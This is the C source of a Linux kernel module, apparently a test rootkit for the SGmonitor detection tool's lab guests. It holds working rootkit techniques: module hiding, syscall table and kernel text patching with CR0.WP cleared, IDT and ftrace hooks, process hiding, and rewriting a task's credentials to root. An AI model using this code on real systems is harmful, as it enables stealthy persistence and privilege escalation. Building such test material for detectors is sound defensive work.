// SPDX-License-Identifier: GPL-2.0
/*
 * sgm_rootkit: a test rootkit for SGmonitor's lab guests (never load it anywhere else).
 *
 * Each module parameter turns on one trick; they are independent and may be combined.
 * Every trick is undone on rmmod where it can be (a hidden module cannot be removed).
 *
 *   hide_module=1         list_del_init(&THIS_MODULE->list) (gone from /proc/modules,
 *                         lsmod) and kobject_del of its kobject (gone from /sys/module).
 *   hide_module=2         the same, and half a second later (once do_init_module is
 *                         done with the tree) out of mod_tree as well: no structure
 *                         that lists modules knows it; its memory stays.
 *   hook_syscall=NR       sys_call_table[NR] = sgm_table_handler (CR0.WP cleared around
 *                         the write: the table is in .rodata).
 *   patch_x64_sys_call=NR rewrite the rel32 of the direct call (or tail jump) inside
 *                         x64_sys_call() whose target is the syscall's entry point, so it
 *                         calls sgm_patch_handler instead (CR0.WP cleared: kernel text).
 *   patch_entry=1         rewrite the "call do_syscall_64" in the syscall entry code
 *                         (entry_SYSCALL_64) to call sgm_entry_hook, which counts the
 *                         system call in entry_hits and calls do_syscall_64.
 *   hook_idt=VECTOR       point IDT gate VECTOR at sgm_idt_thunk, which counts the
 *                         interrupt in idt_hits and jumps to the original handler.
 *   ftrace_hook=FUNC      an ftrace_ops with SAVE_REGS|IPMODIFY filtered on FUNC; for a
 *                         syscall entry point (__x64_sys_*) it redirects the call.
 *   kprobe_hook=FUNC      a kprobe on FUNC whose pre-handler counts hits in kprobe_hits.
 *   hide_pid=PID          list_del_init(&task->tasks): gone from the task list, left in
 *                         the pid hash/IDR (so /proc/PID stays).
 *   hide_pid_ns=PID       take the process out of the PID IDR of its own (non-initial)
 *                         namespace: gone from /proc and ps inside its container, still
 *                         on the task list and in the parent namespaces' IDRs.
 *   root_pid=PID          overwrite the ids of that task's credentials with 0 and give it
 *                         every capability, in place (its cred is shared with nobody).
 *
 * The syscall hooks are observable from user space: a hooked syscall whose first argument
 * is SGM_MAGIC returns a marker naming the hook (SGM_MARK_*); any other call goes on to
 * the original. Everything the module does is logged with the "sgm_rootkit:" prefix.
 *
 * Finding things (kallsyms_lookup_name is not exported on 6.1): a kprobe registered on
 * "kallsyms_lookup_name" resolves its address, then that function finds the rest
 * (sys_call_table, x64_sys_call, kallsyms_lookup_size_offset, tasklist_lock).
 * The call to patch: sys_call_table[NR] still holds the entry point __x64_sys_<name>
 * (the table is no longer used for dispatch on kernels with the x64_sys_call backport);
 * every E8 (call) / E9 (jmp) rel32 inside x64_sys_call whose destination is that entry
 * point is rewritten, bounded by the function's size from kallsyms.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/idr.h>
#include <linux/workqueue.h>
#include <linux/cred.h>
#include <linux/capability.h>
#include <linux/rculist.h>
#include <linux/string.h>
#include <linux/irqflags.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>
#include <asm/desc_defs.h>
#include <asm/nospec-branch.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("SGmonitor test rootkit (lab guests only)");

#define SGM_MAGIC 0x53474d00UL		/* first argument that asks a hook for its marker */
#define SGM_MARK_TABLE 0x53474d01L	/* returned through a sys_call_table hook */
#define SGM_MARK_PATCH 0x53474d02L	/* returned through a patched x64_sys_call */
#define SGM_MARK_FTRACE 0x53474d03L	/* returned through the ftrace redirect */
#define SGM_MAX_SITES 4

static int hide_module;
module_param(hide_module, int, 0444);
static int hook_syscall = -1;
module_param(hook_syscall, int, 0444);
static int patch_x64_sys_call = -1;
module_param(patch_x64_sys_call, int, 0444);
static char *ftrace_hook;
module_param(ftrace_hook, charp, 0444);
static int hide_pid;
module_param(hide_pid, int, 0444);
static int root_pid;
module_param(root_pid, int, 0444);
static int hide_pid_ns;
module_param(hide_pid_ns, int, 0444);
static char *kprobe_hook;
module_param(kprobe_hook, charp, 0444);
long sgm_kprobe_hits;
module_param_named(kprobe_hits, sgm_kprobe_hits, long, 0444);
static int patch_entry;
module_param(patch_entry, int, 0444);
static int hook_idt = -1;
module_param(hook_idt, int, 0444);
/* How often the entry and IDT hooks ran: the guest reads them in /sys/module. */
long sgm_entry_hits;
module_param_named(entry_hits, sgm_entry_hits, long, 0444);
long sgm_idt_hits;
module_param_named(idt_hits, sgm_idt_hits, long, 0444);

typedef long (*sgm_sys_fn)(const struct pt_regs *);
typedef unsigned long (*sgm_lookup_fn)(const char *);
typedef int (*sgm_size_fn)(unsigned long, unsigned long *, unsigned long *);

static sgm_lookup_fn sgm_lookup;

/* ---- writing read-only kernel memory: CR0.WP off, interrupts off, one CPU ---- */

static inline unsigned long sgm_read_cr0(void)
{
	unsigned long val;

	asm volatile("mov %%cr0, %0" : "=r"(val));
	return val;
}

/* native_write_cr0 re-sets WP (CR pinning): write the register directly. */
static inline void sgm_write_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : "+r"(val) : : "memory");
}

static void sgm_write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = sgm_read_cr0();
	sgm_write_cr0(cr0 & ~X86_CR0_WP);
	memcpy(dst, src, len);
	sgm_write_cr0(cr0);
	local_irq_restore(flags);
}

static int sgm_find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err) {
		pr_err("sgm_rootkit: kprobe on kallsyms_lookup_name: %d\n", err);
		return err;
	}
	sgm_lookup = (sgm_lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static unsigned long sgm_sym(const char *name)
{
	unsigned long addr = sgm_lookup(name);

	if (!addr)
		pr_err("sgm_rootkit: no symbol %s\n", name);
	return addr;
}

/* ---- hook_syscall: sys_call_table[NR] ---- */

static unsigned long *sgm_table;
static sgm_sys_fn sgm_table_orig;

static long sgm_table_handler(const struct pt_regs *regs)
{
	if (regs->di == SGM_MAGIC)
		return SGM_MARK_TABLE;
	return sgm_table_orig(regs);
}

static int sgm_hook_table(void)
{
	unsigned long new = (unsigned long)sgm_table_handler;

	sgm_table_orig = (sgm_sys_fn)sgm_table[hook_syscall];
	sgm_write_ro(&sgm_table[hook_syscall], &new, sizeof(new));
	pr_info("sgm_rootkit: sys_call_table[%d] at %px: %px -> %px\n", hook_syscall,
		&sgm_table[hook_syscall], sgm_table_orig, sgm_table_handler);
	return 0;
}

static void sgm_unhook_table(void)
{
	unsigned long old = (unsigned long)sgm_table_orig;

	sgm_write_ro(&sgm_table[hook_syscall], &old, sizeof(old));
	pr_info("sgm_rootkit: sys_call_table[%d] restored\n", hook_syscall);
}

/* ---- patch_x64_sys_call: the direct call inside x64_sys_call ---- */

static sgm_sys_fn sgm_patch_orig;
static u8 *sgm_sites[SGM_MAX_SITES];
static s32 sgm_site_rel[SGM_MAX_SITES];
static int sgm_nsites;

static long sgm_patch_handler(const struct pt_regs *regs)
{
	if (regs->di == SGM_MAGIC)
		return SGM_MARK_PATCH;
	return sgm_patch_orig(regs);
}

static int sgm_patch_dispatch(void)
{
	sgm_size_fn size_of = (sgm_size_fn)sgm_sym("kallsyms_lookup_size_offset");
	unsigned long start = sgm_sym("x64_sys_call");
	unsigned long target = sgm_table[patch_x64_sys_call];
	unsigned long size = 0, offset = 0, i;
	u8 *code = (u8 *)start;
	int n;

	if (!size_of || !start)
		return -ENOENT;
	if (!size_of(start, &size, &offset) || offset != 0 || size < 5)
		return -ENOENT;
	for (i = 0; i + 5 <= size && sgm_nsites < SGM_MAX_SITES; i++) {
		s32 rel;

		if (code[i] != 0xe8 && code[i] != 0xe9)
			continue;
		memcpy(&rel, code + i + 1, sizeof(rel));
		if ((unsigned long)(code + i + 5) + (long)rel != target)
			continue;
		sgm_sites[sgm_nsites] = code + i;
		sgm_site_rel[sgm_nsites++] = rel;
	}
	if (!sgm_nsites) {
		pr_err("sgm_rootkit: no call to %ps in x64_sys_call (%lu bytes)\n", (void *)target,
		       size);
		return -ENOENT;
	}
	sgm_patch_orig = (sgm_sys_fn)target;
	for (n = 0; n < sgm_nsites; n++) {
		long delta = (long)sgm_patch_handler - (long)(sgm_sites[n] + 5);
		s32 rel = (s32)delta;

		if (delta != rel) {
			pr_err("sgm_rootkit: handler out of rel32 reach\n");
			sgm_nsites = n;
			return -ERANGE;
		}
		sgm_write_ro(sgm_sites[n] + 1, &rel, sizeof(rel));
		pr_info("sgm_rootkit: x64_sys_call+%#lx: %s %ps -> %ps\n",
			(unsigned long)(sgm_sites[n] - code), sgm_sites[n][0] == 0xe8 ? "call" : "jmp",
			(void *)target, sgm_patch_handler);
	}
	return 0;
}

static void sgm_unpatch_dispatch(void)
{
	int n;

	for (n = 0; n < sgm_nsites; n++)
		sgm_write_ro(sgm_sites[n] + 1, &sgm_site_rel[n], sizeof(s32));
	if (sgm_nsites)
		pr_info("sgm_rootkit: x64_sys_call restored (%d sites)\n", sgm_nsites);
	sgm_nsites = 0;
}

/* ---- patch_entry: the call to do_syscall_64 in entry_SYSCALL_64 ---- */

typedef long (*sgm_entry_fn)(struct pt_regs *, long);
static sgm_entry_fn sgm_entry_orig;
static u8 *sgm_entry_site;
static s32 sgm_entry_rel;

/* Passes rax through, whether do_syscall_64 returns void (6.1) or bool (6.3+). */
static long notrace sgm_entry_hook(struct pt_regs *regs, long nr)
{
	WRITE_ONCE(sgm_entry_hits, sgm_entry_hits + 1);
	return sgm_entry_orig(regs, nr);
}

static int sgm_patch_entry(void)
{
	unsigned long start = sgm_sym("entry_SYSCALL_64");
	unsigned long end = sgm_sym("entry_SYSRETQ_end");
	unsigned long target = sgm_sym("do_syscall_64");
	u8 *code = (u8 *)start;
	unsigned long i;
	long delta;
	s32 rel;

	if (!start || !target)
		return -ENOENT;
	if (!end || end <= start || end - start > 4096)
		end = start + 1024;
	for (i = 0; i + 5 <= end - start; i++) {
		if (code[i] != 0xe8)
			continue;
		memcpy(&rel, code + i + 1, sizeof(rel));
		if ((unsigned long)(code + i + 5) + (long)rel == target)
			break;
	}
	if (i + 5 > end - start) {
		pr_err("sgm_rootkit: no call to do_syscall_64 in the syscall entry\n");
		return -ENOENT;
	}
	delta = (long)sgm_entry_hook - (long)(code + i + 5);
	if (delta != (s32)delta)
		return -ERANGE;
	sgm_entry_orig = (sgm_entry_fn)target;
	sgm_entry_site = code + i;
	sgm_entry_rel = rel;
	rel = (s32)delta;
	sgm_write_ro(sgm_entry_site + 1, &rel, sizeof(rel));
	pr_info("sgm_rootkit: entry_SYSCALL_64+%#lx: call do_syscall_64 -> %ps\n", i,
		sgm_entry_hook);
	return 0;
}

static void sgm_unpatch_entry(void)
{
	if (!sgm_entry_site)
		return;
	sgm_write_ro(sgm_entry_site + 1, &sgm_entry_rel, sizeof(s32));
	sgm_entry_site = NULL;
	pr_info("sgm_rootkit: syscall entry restored after %ld calls\n", sgm_entry_hits);
}

/* ---- hook_idt: one IDT gate ---- */

unsigned long sgm_idt_orig;
void sgm_idt_thunk(void);
/* Entered as the interrupt handler: count, then go on to the original (flags are free
 * here: the CPU saved them in the exception frame). */
asm(".pushsection .text, \"ax\"\n"
    ".globl sgm_idt_thunk\n"
    "sgm_idt_thunk:\n\t"
    "lock incq sgm_idt_hits(%rip)\n\t"
    ANNOTATE_RETPOLINE_SAFE
    "jmp *sgm_idt_orig(%rip)\n"
    ".popsection\n");

static gate_desc *sgm_gate;
static gate_desc sgm_gate_saved;

static int sgm_hook_idt(void)
{
	gate_desc *table = (gate_desc *)sgm_sym("idt_table");
	unsigned long thunk = (unsigned long)sgm_idt_thunk;
	gate_desc gate;

	if (!table)
		return -ENOENT;
	sgm_gate = &table[hook_idt];
	sgm_gate_saved = *sgm_gate;
	sgm_idt_orig = gate_offset(sgm_gate);
	gate = sgm_gate_saved;
	gate.offset_low = (u16)thunk;
	gate.offset_middle = (u16)(thunk >> 16);
	gate.offset_high = (u32)(thunk >> 32);
	sgm_write_ro(sgm_gate, &gate, sizeof(gate));
	pr_info("sgm_rootkit: IDT vector %d: %ps -> %ps\n", hook_idt, (void *)sgm_idt_orig,
		sgm_idt_thunk);
	return 0;
}

static void sgm_unhook_idt(void)
{
	if (!sgm_gate)
		return;
	sgm_write_ro(sgm_gate, &sgm_gate_saved, sizeof(sgm_gate_saved));
	sgm_gate = NULL;
	pr_info("sgm_rootkit: IDT vector %d restored after %ld hits\n", hook_idt, sgm_idt_hits);
}

/* ---- ftrace_hook ---- */

static atomic64_t sgm_ftrace_hits = ATOMIC64_INIT(0);
static bool sgm_ftrace_redirect;
static bool sgm_ftrace_on;

static long sgm_ftrace_marker(const struct pt_regs *regs)
{
	return SGM_MARK_FTRACE;
}

static void notrace sgm_ftrace_cb(unsigned long ip, unsigned long parent_ip,
				  struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);
	const struct pt_regs *uregs;

	atomic64_inc(&sgm_ftrace_hits);
	if (!regs || !sgm_ftrace_redirect)
		return;
	uregs = (const struct pt_regs *)regs->di;	/* a syscall wrapper's argument */
	if (uregs && uregs->di == SGM_MAGIC)
		regs->ip = (unsigned long)sgm_ftrace_marker;
}

static struct ftrace_ops sgm_ops = {
	.func = sgm_ftrace_cb,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static int sgm_ftrace_register(void)
{
	int err = ftrace_set_filter(&sgm_ops, (unsigned char *)ftrace_hook, strlen(ftrace_hook),
				    0);

	if (err) {
		pr_err("sgm_rootkit: ftrace_set_filter %s: %d\n", ftrace_hook, err);
		return err;
	}
	sgm_ftrace_redirect = strncmp(ftrace_hook, "__x64_sys_", 10) == 0;
	err = register_ftrace_function(&sgm_ops);
	if (err) {
		pr_err("sgm_rootkit: register_ftrace_function: %d\n", err);
		return err;
	}
	sgm_ftrace_on = true;
	pr_info("sgm_rootkit: ftrace on %s (redirect %d)\n", ftrace_hook, sgm_ftrace_redirect);
	return 0;
}

static void sgm_ftrace_unregister(void)
{
	if (!sgm_ftrace_on)
		return;
	unregister_ftrace_function(&sgm_ops);
	sgm_ftrace_on = false;
	pr_info("sgm_rootkit: ftrace off after %lld hits\n",
		(long long)atomic64_read(&sgm_ftrace_hits));
}

/* ---- kprobe_hook ---- */

static int sgm_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
{
	WRITE_ONCE(sgm_kprobe_hits, sgm_kprobe_hits + 1);
	return 0;
}

static struct kprobe sgm_kprobe = { .pre_handler = sgm_kprobe_pre };
static bool sgm_kprobe_on;

static int sgm_kprobe_register(void)
{
	int err;

	sgm_kprobe.symbol_name = kprobe_hook;
	err = register_kprobe(&sgm_kprobe);
	if (err) {
		pr_err("sgm_rootkit: kprobe on %s: %d\n", kprobe_hook, err);
		return err;
	}
	sgm_kprobe_on = true;
	pr_info("sgm_rootkit: kprobe on %s at %px\n", kprobe_hook, sgm_kprobe.addr);
	return 0;
}

static void sgm_kprobe_unregister(void)
{
	if (!sgm_kprobe_on)
		return;
	unregister_kprobe(&sgm_kprobe);
	sgm_kprobe_on = false;
	pr_info("sgm_rootkit: kprobe off after %ld hits\n", sgm_kprobe_hits);
}

/* ---- hide_pid ---- */

static rwlock_t *sgm_tasklist_lock;
static struct task_struct *sgm_hidden;

static struct task_struct *sgm_task(int nr)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	return task;
}

static int sgm_hide_task(void)
{
	struct task_struct *task;

	sgm_tasklist_lock = (rwlock_t *)sgm_sym("tasklist_lock");
	if (!sgm_tasklist_lock)
		return -ENOENT;
	task = sgm_task(hide_pid);
	if (!task)
		return -ESRCH;
	write_lock_irq(sgm_tasklist_lock);
	list_del_init(&task->tasks);
	write_unlock_irq(sgm_tasklist_lock);
	sgm_hidden = task;
	pr_info("sgm_rootkit: pid %d (%s) unlinked from the task list\n", hide_pid, task->comm);
	return 0;
}

static void sgm_unhide_task(void)
{
	if (!sgm_hidden)
		return;
	write_lock_irq(sgm_tasklist_lock);
	/* It may have exited meanwhile (release_task took it off a list it was not on). */
	if (pid_alive(sgm_hidden) && list_empty(&sgm_hidden->tasks))
		list_add_tail_rcu(&sgm_hidden->tasks, &init_task.tasks);
	write_unlock_irq(sgm_tasklist_lock);
	put_task_struct(sgm_hidden);
	sgm_hidden = NULL;
	pr_info("sgm_rootkit: pid %d back on the task list\n", hide_pid);
}

/* ---- hide_pid_ns ---- */

static spinlock_t *sgm_pidmap_lock;
static struct pid *sgm_ns_pid;
static int sgm_ns_nr;

static int sgm_hide_in_ns(void)
{
	struct task_struct *task;
	struct upid *upid;

	sgm_pidmap_lock = (spinlock_t *)sgm_sym("pidmap_lock");
	if (!sgm_pidmap_lock)
		return -ENOENT;
	task = sgm_task(hide_pid_ns);
	if (!task)
		return -ESRCH;
	sgm_ns_pid = get_pid(task_pid(task));
	put_task_struct(task);
	if (sgm_ns_pid->level == 0) {
		put_pid(sgm_ns_pid);
		sgm_ns_pid = NULL;
		return -EINVAL;	/* not in a namespace of its own */
	}
	upid = &sgm_ns_pid->numbers[sgm_ns_pid->level];
	sgm_ns_nr = upid->nr;
	spin_lock_irq(sgm_pidmap_lock);
	idr_remove(&upid->ns->idr, sgm_ns_nr);
	spin_unlock_irq(sgm_pidmap_lock);
	pr_info("sgm_rootkit: pid %d is gone from the IDR of its namespace (where it is %d)\n",
		hide_pid_ns, sgm_ns_nr);
	return 0;
}

static void sgm_unhide_in_ns(void)
{
	struct pid_namespace *ns;
	int nr = -1;

	if (!sgm_ns_pid)
		return;
	ns = sgm_ns_pid->numbers[sgm_ns_pid->level].ns;
	idr_preload(GFP_KERNEL);
	spin_lock_irq(sgm_pidmap_lock);
	if (pid_task(sgm_ns_pid, PIDTYPE_PID))	/* still running: put it back */
		nr = idr_alloc(&ns->idr, sgm_ns_pid, sgm_ns_nr, sgm_ns_nr + 1, GFP_ATOMIC);
	spin_unlock_irq(sgm_pidmap_lock);
	idr_preload_end();
	put_pid(sgm_ns_pid);
	sgm_ns_pid = NULL;
	pr_info("sgm_rootkit: pid %d back in its namespace's IDR (%d)\n", hide_pid_ns, nr);
}

/* ---- root_pid ---- */

struct sgm_ids {
	kuid_t uid, suid, euid, fsuid;
	kgid_t gid, sgid, egid, fsgid;
	kernel_cap_t inh, prm, eff, bset;
};

static struct cred *sgm_creds[2];	/* real_cred and cred (the same object, usually) */
static struct sgm_ids sgm_saved[2];
static int sgm_ncreds;

static void sgm_set_ids(struct cred *cred, const struct sgm_ids *ids)
{
	cred->uid = ids->uid;
	cred->suid = ids->suid;
	cred->euid = ids->euid;
	cred->fsuid = ids->fsuid;
	cred->gid = ids->gid;
	cred->sgid = ids->sgid;
	cred->egid = ids->egid;
	cred->fsgid = ids->fsgid;
	cred->cap_inheritable = ids->inh;
	cred->cap_permitted = ids->prm;
	cred->cap_effective = ids->eff;
	cred->cap_bset = ids->bset;
}

static void sgm_get_ids(const struct cred *cred, struct sgm_ids *ids)
{
	*ids = (struct sgm_ids){ cred->uid, cred->suid, cred->euid, cred->fsuid,
				 cred->gid, cred->sgid, cred->egid, cred->fsgid,
				 cred->cap_inheritable, cred->cap_permitted,
				 cred->cap_effective, cred->cap_bset };
}

static int sgm_root_task(void)
{
	const struct sgm_ids root = { GLOBAL_ROOT_UID, GLOBAL_ROOT_UID, GLOBAL_ROOT_UID,
				      GLOBAL_ROOT_UID, GLOBAL_ROOT_GID, GLOBAL_ROOT_GID,
				      GLOBAL_ROOT_GID, GLOBAL_ROOT_GID, CAP_EMPTY_SET,
				      CAP_FULL_SET, CAP_FULL_SET, CAP_FULL_SET };
	struct task_struct *task = sgm_task(root_pid);
	int n;

	if (!task)
		return -ESRCH;
	rcu_read_lock();
	sgm_creds[0] = (struct cred *)get_cred(rcu_dereference(task->real_cred));
	sgm_creds[1] = (struct cred *)get_cred(rcu_dereference(task->cred));
	rcu_read_unlock();
	put_task_struct(task);
	sgm_ncreds = sgm_creds[0] == sgm_creds[1] ? 1 : 2;
	if (sgm_ncreds == 1)
		put_cred(sgm_creds[1]);
	for (n = 0; n < sgm_ncreds; n++) {
		sgm_get_ids(sgm_creds[n], &sgm_saved[n]);
		sgm_set_ids(sgm_creds[n], &root);
	}
	pr_info("sgm_rootkit: pid %d now has uid 0 (was %u)\n", root_pid,
		from_kuid(&init_user_ns, sgm_saved[0].uid));
	return 0;
}

static void sgm_unroot_task(void)
{
	int n;

	for (n = 0; n < sgm_ncreds; n++) {
		sgm_set_ids(sgm_creds[n], &sgm_saved[n]);
		put_cred(sgm_creds[n]);
	}
	if (sgm_ncreds)
		pr_info("sgm_rootkit: pid %d credentials restored\n", root_pid);
	sgm_ncreds = 0;
}

/* ---- hide_module=2: out of mod_tree, once init is over ---- */

static void (*sgm_tree_remove)(struct module *);
static struct delayed_work sgm_hide_work;

static void sgm_leave_mod_tree(struct work_struct *work)
{
	sgm_tree_remove(THIS_MODULE);	/* the core region: init's is gone by now */
	pr_info("sgm_rootkit: hidden from mod_tree\n");
}

/* ---- load and unload ---- */

static void sgm_undo(void)
{
	sgm_unroot_task();
	sgm_unhide_in_ns();
	sgm_unhide_task();
	sgm_ftrace_unregister();
	sgm_kprobe_unregister();
	sgm_unhook_idt();
	sgm_unpatch_entry();
	sgm_unpatch_dispatch();
	if (sgm_table_orig) {
		sgm_unhook_table();
		sgm_table_orig = NULL;
	}
}

static int __init sgm_init(void)
{
	int err = sgm_find_lookup();

	if (err)
		return err;
	if (hook_syscall >= NR_syscalls || patch_x64_sys_call >= NR_syscalls || hook_idt > 255)
		return -EINVAL;
	if (hook_syscall >= 0 || patch_x64_sys_call >= 0) {
		sgm_table = (unsigned long *)sgm_sym("sys_call_table");
		if (!sgm_table)
			return -ENOENT;
	}
	/* Patch first: it reads the entry point from the table before any table hook. */
	if (patch_x64_sys_call >= 0 && (err = sgm_patch_dispatch()))
		goto fail;
	if (hook_syscall >= 0 && (err = sgm_hook_table()))
		goto fail;
	if (patch_entry && (err = sgm_patch_entry()))
		goto fail;
	if (hook_idt >= 0 && (err = sgm_hook_idt()))
		goto fail;
	if (ftrace_hook && *ftrace_hook && (err = sgm_ftrace_register()))
		goto fail;
	if (kprobe_hook && *kprobe_hook && (err = sgm_kprobe_register()))
		goto fail;
	if (hide_pid > 0 && (err = sgm_hide_task()))
		goto fail;
	if (hide_pid_ns > 0 && (err = sgm_hide_in_ns()))
		goto fail;
	if (root_pid > 0 && (err = sgm_root_task()))
		goto fail;
	if (hide_module) {
		if (hide_module > 1) {
			sgm_tree_remove = (void (*)(struct module *))sgm_sym("mod_tree_remove");
			if (!sgm_tree_remove) {
				err = -ENOENT;
				goto fail;
			}
			/* After init: do_init_module() still takes the init region out. */
			INIT_DELAYED_WORK(&sgm_hide_work, sgm_leave_mod_tree);
			schedule_delayed_work(&sgm_hide_work, HZ / 2);
		}
		list_del_init(&THIS_MODULE->list);
		kobject_del(&THIS_MODULE->mkobj.kobj);
		pr_info("sgm_rootkit: hidden from the module list and /sys/module\n");
	}
	pr_info("sgm_rootkit: loaded\n");
	return 0;
fail:
	sgm_undo();
	return err;
}

static void __exit sgm_exit(void)
{
	sgm_undo();
	pr_info("sgm_rootkit: unloaded\n");
}

module_init(sgm_init);
module_exit(sgm_exit);
